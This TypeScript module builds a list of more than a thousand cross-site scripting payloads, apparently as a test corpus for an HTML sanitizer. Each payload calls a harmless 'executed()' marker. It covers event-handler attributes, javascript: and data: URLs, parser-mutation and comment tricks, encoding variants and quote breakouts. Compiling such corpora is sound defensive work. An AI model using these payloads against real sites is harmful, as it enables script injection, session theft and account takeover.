// Texts by which scripts have been smuggled into pages, by families: each calls `executed()` in a page that is taken in.

const CALL = 'executed()';
/** The same where a text is in quotes, in an attribute, or between tags. */
const IMAGE = `<img src=x onerror=${CALL}>`;
const QUOTED_IMAGE = IMAGE.replace('<', '&lt;').replace('>', '&gt;');

const TAGS =
  `a abbr area article audio b base blockquote body br button canvas code details dialog div embed em font form
frame frameset h1 h2 h6 head hr html i iframe image img input isindex kbd keygen label li link listing main map marquee
math menu meta mglyph mtext noembed noframes noscript object ol option p param picture plaintext portal pre s script
select slot source span strong style sub sup svg table tbody td template textarea th title tr track u ul video xmp
x-own`.split(/\s+/);
const HANDLERS = ['onerror', 'onload', 'onclick', 'onmouseover', 'onfocus', 'ontoggle', 'onanimationstart', 'onbegin'];

/** Handlers of events on every tag, in the ways in which attributes may be written. */
function handlers(): string[] {
  const ways: readonly ((tag: string, handler: string) => string)[] = [
    (tag, handler) => `<${tag} src=x href=x autofocus tabindex=0 open ${handler}=${CALL}>text</${tag}>`,
    (tag, handler) => `<${tag.toUpperCase()}/src="x"${handler.toUpperCase()}\n=\n'${CALL}'/>`,
  ];
  return TAGS.flatMap((tag, index) =>
    HANDLERS.flatMap((handler, place) =>
      ((index + place) % 2 === 0 ? ways : ways.slice(0, 1)).map((way) => way(tag, handler)),
    ),
  );
}

/** What links have led to. */
export const XSS_ADDRESSES: readonly string[] = [
  `javascript:${CALL}`,
  `JaVaScRiPt:${CALL}`,
  ` \t\n\x01javascript:${CALL}`,
  `java\tscr\nipt:${CALL}`,
  `javascript&colon;${CALL}`,
  `&#106;&#x61;vascript:${CALL}`,
  `javascript&#0000058${CALL}`,
  `jav&#x09;ascript:${CALL}`,
  `javascript://host/%0a${CALL}`,
  `vbscript:${CALL}`,
  `data:text/html,<script>parent.${CALL}</script>`,
  `data:text/html;base64,PHNjcmlwdD5wYXJlbnQuZXhlY3V0ZWQoKTwvc2NyaXB0Pg==`,
  `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${CALL}'/>`,
  `view-source:javascript:${CALL}`,
  `blob:javascript:${CALL}`,
  `//host/${CALL}`,
  `\u0000javascript:${CALL}`,
  `\u2028javascript:${CALL}`,
];
const TAKERS = [
  'a href',
  'area href',
  'base href',
  'link rel=stylesheet href',
  'iframe src',
  'iframe srcdoc',
  'frame src',
  'object data',
  'embed src',
  'img src',
  'input type=image src',
  'form action',
  'button formaction',
  'body background',
  'svg><a xlink:href',
  'svg><use href',
  'svg><script href',
  'math><mi href',
  'meta http-equiv=refresh content',
];

const addresses = (): string[] =>
  TAKERS.flatMap((taker) => XSS_ADDRESSES.map((address) => `<${taker}="${address}">text</${taker.split(/[ >]/)[0]!}>`));

/** What browsers read in another way than most parsers do, or in another way the second time. */
function mutations(): string[] {
  const rawText = [
    'style',
    'script',
    'xmp',
    'iframe',
    'noembed',
    'noframes',
    'noscript',
    'textarea',
    'title',
    'plaintext',
    'listing',
    'template',
    'select',
    'option',
    'math',
    'svg',
    'annotation-xml',
    'foreignObject',
    'desc',
  ];
  const inside = rawText.flatMap((tag) => [
    `<${tag}></${tag}>${IMAGE}`,
    `<${tag}><p title="</${tag}>${IMAGE}">`,
    `<${tag}><!--</${tag}>${IMAGE}-->`,
    `<${tag}><a title="</${tag} x>${QUOTED_IMAGE}">text</a></${tag}>`,
    `<svg></p><${tag}><a id="</${tag}>${IMAGE}">`,
    `<math><mtext><table><mglyph><${tag}><!--</${tag}><img title="--&gt;${QUOTED_IMAGE}">`,
    `<form><math><mtext></form><form><mglyph><${tag}></math>${IMAGE}`,
    `<table><td><${tag}><svg><desc><${tag}>${IMAGE}</desc></${tag}>`,
    `<p><${tag}\u000c\u2029><b><${tag.toUpperCase()}>${IMAGE}`,
  ]);
  return [
    ...inside,
    `<!--><img src=x onerror=${CALL}>-->`,
    `<!--${IMAGE}--!>${IMAGE}`,
    `<!-->${IMAGE}<!-- -->`,
    `<![CDATA[<!--]]>${IMAGE}`,
    `<svg><![CDATA[</svg>]]>${IMAGE}`,
    `<?xml version="1.0"?>${IMAGE}`,
    `<!doctype x [<!entity y "${IMAGE}">]>&y;`,
    `</p ${IMAGE}`,
    `</br onclick=${CALL}>${IMAGE}`,
    `<p/${IMAGE}`,
    `<${IMAGE}`,
    `<<script>${CALL}//<</script>`,
    `<scr<script>ipt>${CALL}</scr</script>ipt>`,
    `<script>${CALL}`,
    `<script\u0000>${CALL}</script>`,
    `<\u0000script>${CALL}</script>`,
    `<script/src=data:,${CALL}></script>`,
    `\uff1cscript\uff1e${CALL}\uff1c/script\uff1e`,
    `+ADw-script+AD4-${CALL}+ADw-/script+AD4-`,
    `&lt;script&gt;${CALL}&lt;/script&gt;`,
    `&amp;lt;img src=x onerror=${CALL}&amp;gt;`,
    QUOTED_IMAGE,
    `&#60img src=x onerror=${CALL}&#62`,
    `<style>@import 'javascript:${CALL}';</style>`,
    `<p style="background:url(javascript:${CALL})">text</p>`,
    `<p style="animation:x" onanimationend=${CALL}>text</p><style>@keyframes x{}</style>`,
    `<template shadowrootmode=open>${IMAGE}</template>`,
    `<x-own is=img src=x onerror=${CALL}>`,
    `<a name=executed id=executed>text</a>`,
    `<form id=document><input name=body></form>${IMAGE}`,
  ];
}

/** Ends of quotes in what is allowed. */
function breakouts(): string[] {
  const ends = ['"', "'", '`', '&quot;', '&#34;', '" ', '"/', '\\"', '%22', '"\n', '\u201c', '"\u00a0'];
  return ends.flatMap((end) => [
    `<a href="https://example.com/${end}onmouseover=${CALL} x=">text</a>`,
    `<a href='https://example.com/${end}onclick=${CALL} x='>text</a>`,
    `<a href=https://example.com/${end}onfocus=${CALL} autofocus>text</a>`,
    `<a href="mailto:a@example.com?subject=${end}>${IMAGE}">text</a>`,
    `<a rel="${end}onmouseover=${CALL}" href="https://example.com">text</a>`,
    `<a href="https://example.com/?a=<${end}>${IMAGE}" title="${end}>${IMAGE}">text</a>`,
  ]);
}

/** More than a thousand. */
export const XSS_PAYLOADS: readonly string[] = [
  ...new Set([...handlers(), ...addresses(), ...mutations(), ...breakouts()]),
];
